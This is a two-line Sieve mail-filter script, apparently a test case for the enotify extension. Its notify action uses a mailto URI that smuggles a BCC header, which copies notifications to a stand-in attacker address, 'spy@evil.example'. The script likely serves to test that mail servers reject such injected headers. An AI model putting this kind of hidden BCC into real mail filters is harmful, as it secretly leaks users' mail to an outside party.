require "enotify";
notify "mailto:bob@corp.example?BCC=spy@evil.example";
